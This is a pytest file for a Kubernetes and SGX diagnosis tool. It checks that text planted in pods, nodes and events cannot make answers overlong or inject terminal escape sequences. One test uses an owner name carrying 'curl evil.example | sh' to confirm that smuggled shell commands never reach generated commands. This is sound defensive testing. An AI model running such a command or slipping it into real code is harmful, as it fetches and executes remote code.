"""What others wrote into pods, nodes and events, as `donjon why` and `donjon status` repeat it: short, and on one line."""

from collections.abc import Callable, Iterator
from dataclasses import fields, is_dataclass, replace
from typing import cast

import pytest
from tests.diagnosis import installations
from tests.diagnosis.installations import WHOLE, own_pod
from tests.diagnosis.worlds import EPC, around, belonging, container, event, node, pod, saying, with_spec, workload
from tests.labour import least_labour

from donjon.diagnosis.commands import change, cron_job_of, remake
from donjon.diagnosis.explanation import ClusterState
from donjon.diagnosis.installation import DonjonState, Sight
from donjon.diagnosis.pod import MAX_FINDINGS, explain
from donjon.diagnosis.status import judge
from donjon.diagnosis.workload import Workload, explain_cron_job, explain_workload
from donjon.findings import Finding
from donjon.fleet.placement import MAX_RESOURCES, Obstacle, look
from donjon.formats.json import Json, JsonObject
from donjon.formats.words import MAX_RECITAL, recite

LONG = "\x1b[2Jwell\n\u202e\u2028error DJ999 " + 50_000 * "x"
WIDE = f"\x1b{9_000 * 'x'}"
"""The same within what is read of a sentence."""
MOST = 4 * MAX_RECITAL
"""Characters of a text of ours: few of others' stand in one."""

CHECKED = frozenset(
    (
        *("name", "namespace", "uid", "nodeName", "hostname"),
        *("limits", "requests", "allocatable", "capacity", "labels", "nodeSelector", "taints", "tolerations"),
    )
)
"""What the API server holds to a form with a length: names, labels, resources and taints."""


def places(value: Json, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Where a text stands that may be anything."""
    if isinstance(value, dict):
        for key, each in value.items():
            if key not in CHECKED and (path or key != "kind"):
                yield from places(each, (*path, key))
    elif isinstance(value, list):
        for index, each in enumerate(value):
            yield from places(each, (*path, index))
    elif isinstance(value, str):
        yield path


def put(value: Json, path: tuple[str | int, ...], word: str) -> Json:
    """The same with that word at the place, after what stood there: what begins so may be read as before."""
    if not path:
        return f"{value}{word}"
    step, *rest = path
    if isinstance(value, dict):
        return {key: put(each, tuple(rest), word) if key == step else each for key, each in value.items()}
    assert isinstance(value, list)
    return [put(each, tuple(rest), word) if index == step else each for index, each in enumerate(value)]


def texts(value: object) -> Iterator[str]:
    """All texts of an answer."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, tuple | list | frozenset):
        for each in value:
            yield from texts(each)
    elif is_dataclass(value) and not isinstance(value, type):
        for field in fields(value):
            yield from texts(getattr(value, field.name))
        if isinstance(value, Finding):
            yield value.sentence()


def assert_plain(answer: object) -> None:
    for text in texts(answer):
        assert len(text) <= MOST, text[:300]
        assert text.isprintable(), text[:300]


def owned(thing: JsonObject) -> JsonObject:
    metadata = cast("JsonObject", thing["metadata"])
    return thing | {"metadata": metadata | {"ownerReferences": [{"kind": "ReplicaSet", "name": "app", "uid": "1"}]}}


def requiring(*expressions: Json) -> JsonObject:
    """A required node affinity of one term."""
    terms: list[Json] = [{"matchExpressions": list(expressions)}]
    return {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": terms}}}


AFFINITY = requiring({"key": "disk", "operator": "In", "values": ["fast", "large"]})
SENTENCE = "0/4 nodes are available: 1 node(s) had a conflict, 1 Insufficient cpu, 1 node(s) had untolerated taint(s) {a}"
UNPLACED: JsonObject = {"conditions": [{"type": "PodScheduled", "status": "False", "message": SENTENCE}]}
NOT_READY: JsonObject = {"type": "Ready", "status": "False", "message": "kubelet stopped"}
NO_SGX: JsonObject = {"type": "SGXReady", "status": "False", "message": "no device [DJ009]"}
ENDED: JsonObject = {"exitCode": 1, "reason": "Because", "finishedAt": "2026-11-23T11:59:00Z", "message": "x"}
CONTAINERS: list[Json] = [
    {"name": "app", "image": "a", "state": {"terminated": ENDED}, "restartCount": 2},
    {"name": "b", "image": "a", "state": {"waiting": {"reason": "ImagePullBackOff", "message": "no"}}},
]
RUNNING = owned(pod("1Mi", phase="Running", on="a", status={"containerStatuses": CONTAINERS}))
UNREADY: JsonObject = {"conditions": [{"type": "Ready", "status": "False", "lastTransitionTime": "2026-11-23T11:00:00Z"}]}
WARNING = event("FailedMount", pod(), 'configmap "a" not found')
PODS: tuple[tuple[JsonObject, tuple[JsonObject, ...]], ...] = (
    (owned(pod("16Gi", status=UNPLACED)), (node("a"),)),
    (owned(pod("1Mi", status=UNPLACED, affinity=AFFINITY)), ()),
    (owned(pod("1Mi", status=UNPLACED, affinity=AFFINITY)), (node("a"), saying(node("b"), NOT_READY))),
    (owned(pod("1Mi", status=UNPLACED)), (saying(node("a"), NOT_READY, NO_SGX), saying(node("b"), NO_SGX))),
    (owned(pod("1Mi", status=UNPLACED)), (node("a"),)),
    (RUNNING, (node("a"),)),
    (RUNNING, (saying(node("a"), NOT_READY, NO_SGX),)),
    (owned(pod("1Mi", phase="Running", on="a", status=UNREADY)), (node("a"),)),
    (with_spec(RUNNING, {"containers": [container(name="app")]}), (node("a"),)),
    (pod("1Mi", on="a", status={"initContainerStatuses": [{"name": "i", "state": {"running": {}}}]}), (node("a"),)),
    (owned(pod("1Mi", on="a", status={"containerStatuses": CONTAINERS})), (node("a"),)),
    (owned(pod("1Mi", phase="Failed", on="a", status={"reason": "Evicted", "message": "DiskPressure"})), (node("a"),)),
    (pod("1Mi", phase="Failed", on="a", status={"reason": "DeadlineExceeded", "message": "late"}), (node("a"),)),
    (pod("1Mi", phase="Unknown", on="a"), (node("a"),)),
    (pod(volumes=[{"name": "v", "hostPath": {"path": "/dev/sgx"}}], on="a", phase="Running"), (node("a"),)),
    (pod("1Mi", on="a", phase="Running") | {"spec": {"nodeName": "a"}}, (saying(node("a"), NOT_READY, NO_SGX),)),
)


def variants() -> Iterator[tuple[JsonObject, ClusterState]]:
    for own, nodes in PODS:
        here = around(*nodes, events=(WARNING,), pods=(own,))
        blind = replace(here, nodes=(), no_nodes="list nodes: 403 no", own_pods_only="list pods: 403 no")
        for state in (here, blind):
            yield own, state
            for place in places(own):
                yield cast("JsonObject", put(own, place, LONG)), state
            for part in ("conflict", "cpu", "{a"):
                sentence: JsonObject = {"message": SENTENCE.replace(part, f"{part}{WIDE}"), "type": "PodScheduled"}
                yield saying(own, sentence), state
            for place in places(WARNING):
                yield own, replace(state, events=(cast("JsonObject", put(WARNING, place, LONG)),))
            for number, each in enumerate(state.nodes):
                for place in places(each):
                    changed = cast("JsonObject", put(each, place, LONG))
                    yield own, replace(state, nodes=(*state.nodes[:number], changed, *state.nodes[number + 1 :]))


def test_no_text_in_a_pod_its_nodes_or_its_events_makes_an_answer_long_or_steers_a_terminal() -> None:
    tried = 0
    for own, state in variants():
        assert_plain(explain(own, state))
        tried += 1
    assert tried > 300


JOB = workload("Job", status={"conditions": [{"type": "Failed", "status": "True", "message": "BackoffLimitExceeded"}]})
WORKLOADS = (
    (workload("ReplicaSet", replicas=1), "no"),
    (workload("Job", template={}), "exceeded quota: small, requested: cpu=1,used: 1,limited: 1"),
    (owned(workload("Job")), "container app: no [DJ104]; see"),
    (JOB, ""),
)


@pytest.mark.parametrize(("thing", "message"), WORKLOADS)
def test_no_text_in_a_workload_or_its_events_does_either(thing: JsonObject, message: str) -> None:
    refusal = event("FailedCreate", thing, message)
    for own in (thing, *(cast("JsonObject", put(thing, place, LONG)) for place in places(thing))):
        for refusals_event in (refusal, *(cast("JsonObject", put(refusal, place, LONG)) for place in places(refusal))):
            made = Workload(kind=str(thing["kind"]), thing=own, maker=own, pods=())
            assert_plain(explain_workload(made, around(node("a"), events=(refusals_event,) if message else ())))
    assert_plain(explain_cron_job(workload("CronJob", schedule=LONG), ()))


def states() -> Iterator[DonjonState]:
    change: Callable[..., DonjonState] = replace
    late = own_pod("node", "b", ready=False, containerStatuses=cast("Json", CONTAINERS))
    webhook = own_pod("admission", "a", ready=False)
    worse = (saying(node("a"), NOT_READY, NO_SGX), saying(node("b"), NO_SGX))
    deployment = installations.workload("Deployment", "admission", readyReplicas=1)
    for nodes in (WHOLE.nodes.things, worse):
        for pods in ((late, webhook), (own_pod("node", "a"), webhook)):
            there = {
                "nodes": nodes,
                "pods": pods,
                "deployments": (deployment,),
                "daemon_sets": (installations.daemon_set(desired=2, ready=1),),
            }
            whole = change(WHOLE, **{name: Sight(things=things) for name, things in there.items()})
            yield replace(whole, readiness={"donjon-admission-a": f"ok: [DJ147] {LONG}"})
            yield replace(whole, readiness={"donjon-admission-a": f"no [DJ512] {LONG}"})
            yield replace(whole, nodes=Sight(problem=LONG), wiring=replace(WHOLE.wiring, pod=None, refusal=LONG))
            for name, things in there.items():
                for number, thing in enumerate(things):
                    for place in places(thing):
                        changed = cast("JsonObject", put(thing, place, LONG))
                        yield change(whole, **{name: Sight(things=(*things[:number], changed, *things[number + 1 :]))})


def test_no_text_in_nodes_pods_or_programs_makes_a_status_long_or_steers_a_terminal() -> None:
    for state in states():
        assert_plain(judge(state))


@pytest.mark.parametrize(
    ("text", "short"),
    [
        ("as it is", "as it is"),
        ("two\nlines\tand   blanks ", "two lines and blanks"),
        ("\x1b[2J\u202e", "\\x1b[2J\\u202e"),
        ("x" * MAX_RECITAL, "x" * MAX_RECITAL),
        ("x" * (MAX_RECITAL + 1), "x" * (MAX_RECITAL - 1) + "…"),
    ],
)
def test_what_is_refusals_event_a_text_is_one_line_that_ends(text: str, short: str) -> None:
    assert recite(text) == short


def test_a_pod_with_thousands_of_troubles_is_told_of_by_the_first() -> None:
    many = range(3_000)
    annotations: JsonObject = {f"sgx.intel.com/epk{number}": "1" for number in many}
    containers = [container("1", name=f"app-{number}") for number in many]
    own = pod(phase="Running", on="a", containers=cast("Json", containers), securityContext={"runAsUser": 1})
    own |= {"metadata": {"name": "app", "namespace": "shop", "annotations": annotations}}
    answer = explain(own, around(node("a")))
    assert len(answer.findings) == MAX_FINDINGS
    assert f"(the first {MAX_FINDINGS} of " in answer.verdict
    assert_plain(answer)
    unwired = with_spec(own, {"containers": [{"name": f"app-{number}", "resources": {"limits": {EPC: "1"}}} for number in many]})
    assert_plain(explain(unwired, around(node("a"))))
    devices: list[Json] = [{"name": f"v{number}", "hostPath": {"path": f"/dev/sgx_{number}"}} for number in many]
    assert_plain(explain(pod(phase="Running", on="a", volumes=devices), around(node("a"))))


def test_of_thousands_of_resources_some_are_compared_and_all_of_sgx() -> None:
    limits: JsonObject = {**{f"example.com/r{number}": "1" for number in range(5_000)}, "sgx.intel.com/enclave": "1", EPC: "16Gi"}
    own = pod(status=UNPLACED) | {"spec": {"containers": [{"name": "app", "resources": {"limits": limits}}]}}
    (view,) = look(own, (node("a", enclave="0"),), ())
    assert len(view.against) < MAX_RESOURCES + 5
    assert {Obstacle.TOO_LARGE, Obstacle.DEVICE, Obstacle.OTHER} <= view.obstacles


def test_a_pod_of_thousands_of_containers_is_summed_once_however_many_nodes_there_are() -> None:
    own = pod() | {"spec": {"containers": [container("1", name=f"app-{number}") for number in range(2_000)]}}
    nodes = [node(f"n{number}") for number in range(50)]
    of_one = least_labour(lambda: look(own, nodes[:1], ()), 0)
    of_all = least_labour(lambda: look(own, nodes, ()), 5 * of_one)
    assert of_all < 5 * of_one


def test_nobody_is_told_to_give_a_node_hundreds_of_labels() -> None:
    expressions: list[Json] = [{"key": f"disk{number}", "operator": "Exists"} for number in range(500)]
    answer = explain(pod("1Mi", affinity=requiring(*expressions)), around(node("a")))
    assert "kubectl label" not in answer.next_step
    assert_plain(answer)


@pytest.mark.parametrize("way", [change, remake, cron_job_of])
@pytest.mark.parametrize("kind", ["Job", "StatefulSet", "CronJob", "x; evil"])
def test_an_owner_such_as_no_thing_can_be_called_becomes_part_of_no_command(kind: str, way: Callable[[JsonObject], str]) -> None:
    """Whoever makes a pod writes its owners, and the API server looks at no name there."""
    owned = belonging(pod("1Ti"), {"kind": kind, "metadata": {"name": "x; curl evil.example | sh", "uid": "u"}})
    assert "evil" not in way(owned)
